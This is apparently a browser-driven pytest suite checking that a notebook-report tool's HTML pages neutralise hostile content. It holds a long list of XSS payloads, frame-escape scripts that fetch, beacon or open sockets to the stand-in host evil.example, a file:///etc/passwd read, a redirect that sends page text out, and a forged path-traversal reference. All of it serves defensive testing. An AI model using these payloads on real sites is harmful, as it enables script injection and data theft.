"""Whatever stands in a notebook, a record, a log or a file does nothing to the page around it."""

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from tests.browser import Looker, Tab, chromium, needs_browser
from tests.project import TemporaryProject
from tests.sites import png

pytestmark = needs_browser

# What a script does that runs in the page; one in a frame does it, too, and may not get there.
HACK = (
    "if(self===top)console.log('hacked');"
    "try{top.document.title='hacked';top.hacked=1;top.document.body.innerHTML='hacked'}catch(e){}"
    "try{top.location='https://evil.example/top'}catch(e){}"
    "try{alert('hacked')}catch(e){}"
)
_URL = "https://evil.example/"
PAYLOADS = [
    f"<script>{HACK}</script>",
    f"</script><script>{HACK}</script>",
    f'<script src="{_URL}a.js"></script>',
    f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    f'<img src="x" onerror="{HACK}">',
    f"<img src=x onerror={HACK!r}//",
    f'<img src="{_URL}pixel.png" srcset="{_URL}2x.png 2x">',
    f'<svg onload="{HACK}"><script>{HACK}</script><a xlink:href="javascript:{HACK}">x</a></svg>',
    f"<svg><style><img src=x onerror={HACK!r}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={HACK!r}>",
    f'<math href="javascript:{HACK}"><mtext>a</mtext></math>',
    f'<math><annotation-xml encoding="text/html"><script>{HACK}</script></annotation-xml></math>',
    f'<a href="javascript:{HACK}">script</a>',
    f'<a href="JaVaScRiPt&colon;{HACK}">script</a>',
    f'<a href=" &#1;javascript:{HACK}" target="_top" ping="{_URL}">script</a>',
    f'<a href="data:text/html,<script>{HACK}</script>">data</a>',
    f'<a href="vbscript:{HACK}">vb</a>',
    "<style>body{display:none}main,header{visibility:hidden}</style>",
    f'<style>@import "{_URL}a.css"; h1{{background:url({_URL}a.png)}}</style>',
    f'<link rel="stylesheet" href="{_URL}a.css"><link rel="prefetch" href="{_URL}">',
    '<div style="position:fixed;inset:0;background:red;z-index:9999">over everything</div>',
    '<div class="fault log site filter sign is-good" id="log">as the page itself</div>',
    f'<base href="{_URL}"><base target="_blank">',
    f'<meta http-equiv="refresh" content="0;url={_URL}">',
    f'<form action="{_URL}"><input autofocus onfocus="{HACK}"><button>send</button></form>',
    f'<iframe src="{_URL}"></iframe><iframe srcdoc="&lt;script&gt;{HACK}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{HACK}"></iframe>',
    f'<object data="{_URL}a.swf"></object><embed src="{_URL}a.swf">',
    f'<object data="data:text/html,<script>{HACK}</script>"></object>',
    f'<video src="{_URL}" poster="{_URL}"></video><audio src="{_URL}"></audio>',
    f'<body onload="{HACK}" background="{_URL}"><table background="{_URL}"><tr><td>',
    f'<details open ontoggle="{HACK}"><summary>x</summary></details>',
    f'<div onmouseover="{HACK}" onclick="{HACK}" tabindex="-1" accesskey="x">x</div>',
    '<img name="body"><img name="getElementById"><a id="document"></a><a id="form"></a>',
    "</div></section></article></main></body></html><h1>outside</h1>",
    "--><!-- <![CDATA[ ]]> <!--",
    f"<template><script>{HACK}</script></template><noscript><img src=x onerror={HACK!r}>",
    f"<xmp><img src=x onerror={HACK!r}></xmp><textarea><title><plaintext>",
    f'{{{{ 1 + 1 }}}} {{% raw %}} ${{{HACK}}} "><img src=x onerror={HACK!r}>',
]
# In a line, as a name or a text may be.
ODD = f'"><img src=x onerror="{HACK}"></td></script><script>{HACK}</script>'
# In the name of a file, which has no slash.
NAME = "\"'><img src=x onerror=document.title=1>&amp;#<b>"

BAD = f"bad {NAME}"


@pytest.fixture(scope="module")
def looker() -> Iterator[Looker]:
    """Give a browser."""
    with chromium() as found:
        yield found


# What stands in a page that the page itself does not write, by its mark-up.
_FOREIGN = """() => {
  const found = [];
  const tags = new Set(['SCRIPT', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'OBJECT', 'EMBED', 'BASE',
    'TEMPLATE', 'VIDEO', 'AUDIO', 'STYLE', 'LINK', 'META', 'NOSCRIPT', 'XMP', 'PLAINTEXT']);
  const own = one => one.matches('head > meta, head > link[rel=stylesheet], head > style, ' +
    'form.filter, section > script:last-child');
  for (const one of document.querySelectorAll('*')) {
    if (tags.has(one.tagName.toUpperCase()) && !own(one)) found.push(one.outerHTML.slice(0, 300));
    for (const {name, value} of one.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'srcset' || name === 'ping' ||
          name === 'name' && one.tagName !== 'SELECT' && one.tagName !== 'META' ||
          /^\\W*(javascript|vbscript|data:text)/i.test(value))
        found.push(name + '=' + value.slice(0, 100));
    }
    if (one.tagName === 'IFRAME' && !['', 'allow-scripts'].includes(one.getAttribute('sandbox')))
      found.push(one.outerHTML.slice(0, 200));
    if (!own(one) && ['fixed', 'sticky'].includes(getComputedStyle(one).position) &&
        !one.matches('nav.outline'))
      found.push('stays in its place: ' + one.outerHTML.slice(0, 200));
  }
  return found;
}"""
_SHAPE = """() => ({
  title: document.title, hacked: window.hacked ?? null, base: document.baseURI === location.href,
  scripts: document.scripts.length <= 1,
  body: [...document.body.children].map(one => one.tagName + '.' + one.className),
  headings: document.querySelectorAll('h1').length,
  shown: [...document.querySelectorAll('body, header, main, footer, h1')]
    .every(one => one.checkVisibility({visibilityProperty: true, opacityProperty: true})),
  top: [...document.querySelectorAll('header.site, h1')].every(one => {
    const {x, y, width, height} = one.getBoundingClientRect();
    return y > 800 || one.contains(document.elementFromPoint(x + width / 2, y + height / 2));
  }),
})"""


def nothing_happened(tab: Tab, title: str) -> None:
    """Assert that a page is as it was made, and that nothing of what it shows has run."""
    # What waits for a picture that fails, or for a second, has had its time.
    tab.page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    for step in range(0, int(tab.page.evaluate("document.body.scrollHeight")), 3000):
        tab.page.evaluate(f"scrollTo(0, {step})")
    tab.page.wait_for_timeout(300)
    tab.page.evaluate("scrollTo(0, 0)")
    assert tab.page.evaluate(_FOREIGN) == []
    shape = tab.page.evaluate(_SHAPE)
    assert shape == {
        "title": shape["title"],
        "hacked": None,
        "base": True,
        "scripts": True,
        "body": ["HEADER.site", "MAIN.", "FOOTER.site quiet"],
        "headings": 1,
        "shown": True,
        "top": True,
    }
    assert title in shape["title"], shape["title"]
    assert tab.left == []
    # What the policies stop is said there, too.
    bad = re.compile(r"^(dialog|another page)|hacked")
    stopped = "Content Security Policy|sandboxed|Refused to|Unsafe attempt|Blocked"
    said = [one for one in tab.said if bad.search(one) and not re.search(stopped, one)]
    assert said == []


def executed(project: TemporaryProject, profile: str, stage: str, *cells: Any) -> None:  # noqa: ANN401
    """Put a notebook in the place of one that the newest run has left."""
    path = project.runs(profile)[-1] / "notebooks" / f"{stage}.ipynb"
    made = {
        "cells": [*cells],
        "metadata": {"language_info": {"name": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path.write_text(json.dumps(made, indent=1, sort_keys=True, ensure_ascii=False), "utf-8")


def hostile_cells() -> list[Any]:
    """Give cells with each payload in each place that a page shows."""
    cells: list[Any] = []
    for text in PAYLOADS:
        cells += [new_markdown_cell(text), new_markdown_cell(f"# {text}\n\n- {text}\n\n> {text}")]
        cells.append(
            new_markdown_cell(f"| a | b |\n|---|---|\n| {text} | `{text}` |\n\n    {text}")
        )
        cells.append(
            new_markdown_cell(f"$\\text{{{text}}}$ and $$\\text{{{text}}}$$ $\\href{{{text}}}x$")
        )
        cells.append(new_raw_cell(text))
        displays = [
            {"text/plain": text},
            {"text/html": text},
            {"text/html": f"<table><tr><td>{text}</td></tr></table>"},
            {"text/markdown": text},
            {"text/latex": f"$$\\text{{{text}}}$$"},
            {"application/json": {text: [text]}},
            {"image/png": text},
            {"image/svg+xml": text},
            {text: text},
        ]
        outputs = [new_output("display_data", data=one) for one in displays]
        outputs.append(new_output("stream", name="stdout", text=f"{text}\n\x1b[31m{text}\x1b[0m\n"))
        outputs.append(
            new_output("stream", name=text, text="\x1b]8;;javascript:1\x07x\x1b]8;;\x07")
        )
        outputs.append(new_output("error", ename=text, evalue=text, traceback=[text, text]))
        outputs.append(new_output("error", ename=text, evalue=text, traceback=[]))
        cell = new_code_cell(f"'''{text}'''  # {text}", outputs=outputs)
        cell.metadata = {"tags": [text], "execution": {"iopub.status.busy": text}}
        cell["execution_count"] = text
        cells.append(cell)
    links = "".join(f"[a]({kind}:{HACK}) " for kind in ("javascript", "JAVASCRIPT", "vbscript"))
    links += f"![a](javascript:{HACK}) ![b]({_URL}a.png) <javascript:alert(1)> [c]: {_URL}\n\n[c]"
    cells.append(new_markdown_cell(links))
    attached = new_markdown_cell('![a](attachment:a.png) ![b](attachment:b"onerror=1)')
    attached["attachments"] = {
        "a.png": {f'image/png"><script>{HACK}</script>': f'"><script>{HACK}</script>'},
        'b"onerror=1': {"image/svg+xml": f"<svg onload={HACK!r}>"},
    }
    return [*cells, attached]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> TemporaryProject:
    """Give a project that means harm, and its pages."""
    project = TemporaryProject(tmp_path_factory.mktemp("a") / "<b>hostile & odd'")
    parameters = (
        f'output_table = "../outputs/test/t.csv"\ntext = {ODD!r}\nlists = [{ODD!r}]\nn = 1\n'
    )
    for suffix in ("json", "txt", "md", "svg", "html", "png", "tsv"):
        parameters += f'output_{suffix} = """../outputs/test/{NAME}.{suffix}"""\n'
    write = f"""
import json
from pathlib import Path

rows = [[{ODD!r}.replace(",", ";"), "b"]] * 3
Path(output_table).write_text("\\n".join(map(",".join, rows)))
Path(output_tsv).write_text("\\n".join(map("\\t".join, rows)))
Path(output_json).write_text(json.dumps({{{ODD!r}: n, "list": [{ODD!r}]}}))
for name in (output_txt, output_md, output_html, output_png):
    Path(name).write_text({ODD!r})
svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>' + {HACK!r} + "</script></svg>"
Path(output_svg).write_text(svg)
"""
    project.notebook(NAME, write, parameters=parameters)
    project.profile("all", f"{json.dumps(NAME)}:\n  text: {json.dumps(ODD)}\n")
    raise_it = f"raise type({ODD!r}, (Exception,), {{}})({ODD!r})"
    project.notebook(
        "z_last", f"if bad:\n    {raise_it}", f"'''{ODD}'''", parameters="bad = False\nlists = []"
    )
    project.profile(BAD, "z_last:\n  bad: true\n")
    project.pretend("all", "-p", f"z_last.lists=[{json.dumps(ODD)}]")
    project.pretend(BAD, code=1)
    log = project.runs("all")[-1] / "log.txt"
    lines = [f"2026-01-01 00:00:00.000 ERROR    {one}[1/1] {one}: {one}" for one in PAYLOADS]
    log.write_text("\n".join([log.read_text("utf-8"), *lines, *PAYLOADS, ""]), "utf-8")
    executed(project, "all", "z_last", *hostile_cells())
    project.call("show", "all")
    project.call("show", BAD)
    return project


@pytest.mark.parametrize("way", ["pages", "single"])
def test_nothing_that_is_shown_changes_the_page_or_runs(
    hostile: TemporaryProject, looker: Looker, tmp_path: Path, way: str
) -> None:
    name = hostile.root.name
    outputs = hostile.root / "outputs"
    pages = sorted(one for one in outputs.rglob("*.html") if one.parent.name != "files")
    pages = [one for one in pages if "pages" in one.parts or one.parent == outputs]
    if way == "single":
        for profile in ("all", BAD):
            hostile.call("show", profile, "--single", str(tmp_path / f"{len(profile)}.html"))
        pages = sorted(tmp_path.glob("*.html"))
    assert len(pages) == (9 if way == "pages" else 2)
    for page in pages:
        with looker.opened(page) as tab:
            nothing_happened(tab, name)


# What a script in a frame may want; each fails, at once or later.
TRIES = {
    "parent's document": "parent.document.title = 'hacked'",
    "top's document": "top.document.body.innerHTML = ''",
    "parent's name": "parent.hacked = 1",
    "parent's script": "parent.eval('1')",
    "top's place": f"top.location = '{_URL}'",
    "top's place by a link": f"open('{_URL}', '_top').x",
    "storage": "localStorage.setItem('a', 1)",
    "cookie": "document.cookie = 'a=1'",
    "database": "indexedDB.open('a')",
    "another window": f"open('{_URL}').x",
    "the element of the frame": "frameElement.sandbox = ''",
    "eval": "eval('1')",
}
LATER = {
    "fetch": f"await fetch('{_URL}')",
    "a file": "await fetch('file:///etc/passwd')",
    "a beacon": f"if (!navigator.sendBeacon('{_URL}')) throw 1; else throw 2",
    "a socket": "await came(new WebSocket('wss://evil.example'), 'open')",
    "a picture": f"await came(Object.assign(new Image(), {{src: '{_URL}a.png'}}))",
    "a script": f"await came(made('script', {{src: '{_URL}a.js'}}))",
    "its own script": "made('script', {textContent: 'own = 1'}); if (!self.own) throw 1",
    "a style sheet": f"await came(made('link', {{rel: 'stylesheet', href: '{_URL}a.css'}}))",
    "a worker": "await came(new Worker('data:text/javascript,postMessage(1)'), 'message')",
}
_HELP = """
const came = (one, kind = 'load') => new Promise((yes, no) => {
  one.addEventListener(kind, yes); one.addEventListener('error', no);
});
const made = (tag, about) => {
  const one = Object.assign(document.createElement(tag), about);
  document.head.append(one);
  return one;
};
"""


def _tried(name: str, code: str) -> str:
    """Write a script that tries something, and says whether it got it."""
    said = json.dumps(name)
    return (
        f"(async () => {{ {code} }})().then(() => say('GOT', {said}), () => say('no', {said}));\n"
    )


def test_a_script_in_a_frame_stays_in_it(project: TemporaryProject, looker: Looker) -> None:
    script = f"{_HELP}const say = (...words) => console.log(words.join(' '));\n"
    script += "".join(_tried(*one) for one in (*TRIES.items(), *LATER.items()))
    script += f"""
document.body.insertAdjacentHTML('beforeend', `<form action='{_URL}'></form>
  <iframe src='{_URL}'></iframe><a href='{_URL}' target=_top download>a</a>
  <a href='javascript:top.hacked=1'>b</a>`);
document.forms[0].submit();
for (const one of document.links) one.click();
alert('hacked');
print();
console.log('ran to its end');
setTimeout(() => {{ location = '{_URL}?' + document.body.textContent }}, 100);
"""
    project.profile("all")
    project.notebook("a", "1")
    project.pretend("all")
    kinds = {
        "small": {"text/html": f"<p>small</p><script>{script}</script>"},
        "large": {"text/html": f"<p>large</p><!--{'x' * 70_000}--><script>{script}</script>"},
        "code": {"application/javascript": script},
        "moves": {
            "text/html": f'<meta http-equiv="refresh" content="0;url={_URL}">'
            f'<base href="{_URL}"><script>1</script><link rel="stylesheet" href="{_URL}a.css">'
            f'<script src="{_URL}a.js"></script><img src="{_URL}a.png">'
            f'<style>@import "{_URL}"</style>'
        },
    }
    project_cells = [
        new_code_cell(kind, outputs=[new_output("display_data", data=data)])
        for kind, data in kinds.items()
    ]
    executed(project, "all", "a", *project_cells)
    project.call("show", "all")
    (page,) = project.outputs("all").glob("pages/*/a.html")
    assert [*page.parent.glob("files/a-*.html")]
    with looker.opened(page) as tab:
        for frame in tab.page.locator("iframe").all():
            frame.scroll_into_view_if_needed()
        tried = [*TRIES, *LATER]
        for _ in range(600):
            said = "\n".join([*tab.said, ""])
            if sum(said.count(f"log: no {name}\n") for name in tried) == 3 * len(tried):
                break
            tab.page.wait_for_timeout(100)
        # What a frame does at last, goes on a little later.
        tab.page.wait_for_timeout(1000)
        said = "\n".join([*tab.said, ""])
        assert said.count("ran to its end") == 3, said
        for name in tried:
            assert f"GOT {name}" not in said
            assert said.count(f"log: no {name}\n") == 3, name
        nothing_happened(tab, "a: succeeded")


def test_what_is_large_is_as_harmless(project: TemporaryProject, looker: Looker) -> None:
    project.profile("all")
    project.notebook("a", "1")
    project.pretend("all")
    long = "x" * 70_000
    cells = []
    for text in PAYLOADS:
        large = f"{text}{long}{text}"
        outputs = [
            new_output("display_data", data={"text/plain": large}),
            new_output("display_data", data={"text/markdown": large}),
            new_output("display_data", data={"text/latex": large}),
            new_output("display_data", data={"image/svg+xml": f"<svg>{large}</svg>"}),
            new_output("stream", name="stdout", text=large),
            new_output("error", ename=text, evalue=text, traceback=[large]),
        ]
        cells.append(new_code_cell(large, outputs=outputs))
    html = f"<p>{long}</p>{PAYLOADS[4]}{PAYLOADS[20]}"
    cells.append(new_code_cell("h", outputs=[new_output("display_data", data={"text/html": html})]))
    executed(project, "all", "a", *cells)
    project.call("show", "all")
    (page,) = project.outputs("all").glob("pages/*/a.html")
    # Nothing that a browser would run by itself, but for the document of the frame.
    kinds = {one.suffix for one in page.parent.glob("files/a-*")}
    assert kinds == {".txt", ".svg", ".html"}
    with looker.opened(page) as tab:
        nothing_happened(tab, "a: succeeded")


def test_no_notebook_says_which_file_a_page_reads(project: TemporaryProject) -> None:
    project.profile("all")
    project.notebook("a", "1")
    project.pretend("all")
    project.write("other.html", "<p>not for the page</p>")
    # As what stands for a large text, and how that could be forged.
    forged = {"runner-large": ["../../../../../other.html", 70_000, "the head"]}
    cells = []
    for kind in ("text/html", "text/plain", "text/markdown", "image/png", "application/json"):
        cell = new_code_cell("f", outputs=[new_output("display_data")])
        cell.outputs[0].data = {kind: forged}
        cells.append(cell)
    executed(project, "all", "a", *cells)
    project.call("show", "all")
    project.call("show", "all", "--single", "one.html")
    (page,) = project.outputs("all").glob("pages/*/a.html")
    for text in (page.read_text("utf-8"), (project.root / "one.html").read_text("utf-8")):
        assert "not for the page" not in text
        assert base64.b64encode(b"not for the page").decode()[:-4] not in text
        assert not re.search(r'(href|src)="[^"]*other.html', text)


def test_a_widget_and_a_picture_that_is_none_are_harmless(
    project: TemporaryProject, looker: Looker
) -> None:
    project.profile("all")
    project.notebook("a", "1")
    project.pretend("all")
    view = "application/vnd.jupyter.widget-view+json"
    state: dict[str, Any] = {}
    cells = []
    for number, text in enumerate(PAYLOADS):
        for kind in ("HTMLModel", "IntSliderModel", "FloatProgressModel", "VBoxModel", text):
            about = {"description": text, "value": text, "min": 0, "max": 7}
            if kind == "VBoxModel":
                about = {"children": [f"IPY_MODEL_{number}HTMLModel", f"IPY_MODEL_{text}"]}
            if kind == "FloatProgressModel":
                about["value"] = 3
            state[f"{number}{kind}"] = {"model_name": kind, "state": about}
            data = {view: {"model_id": f"{number}{kind}"}, "text/plain": text}
            cells.append(new_code_cell("w", outputs=[new_output("display_data", data=data)]))
    made = new_notebook(cells=cells)
    made.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": state}}
    made.metadata["language_info"] = {"name": PAYLOADS[0], "pygments_lexer": PAYLOADS[0]}
    path = project.runs("all")[-1] / "notebooks/a.ipynb"
    picture = base64.b64encode(png()).decode()
    for kind in ("image/png", "image/jpeg", "image/gif"):
        for value in (picture[:40], f'{picture}"><script>{HACK}</script>', "%%%", [picture, 1]):
            cell = new_code_cell("p", outputs=[new_output("display_data")])
            cell.outputs[0].data = {kind: value}
            made.cells.append(cell)
    path.write_text(json.dumps(made, indent=1, sort_keys=True), "utf-8")
    project.call("show", "all")
    (page,) = project.outputs("all").glob("pages/*/a.html")
    with looker.opened(page) as tab:
        assert tab.page.locator(".cell").count() == len(made.cells)
        assert tab.text().count("43 %") == len(PAYLOADS)
        nothing_happened(tab, "a: succeeded")
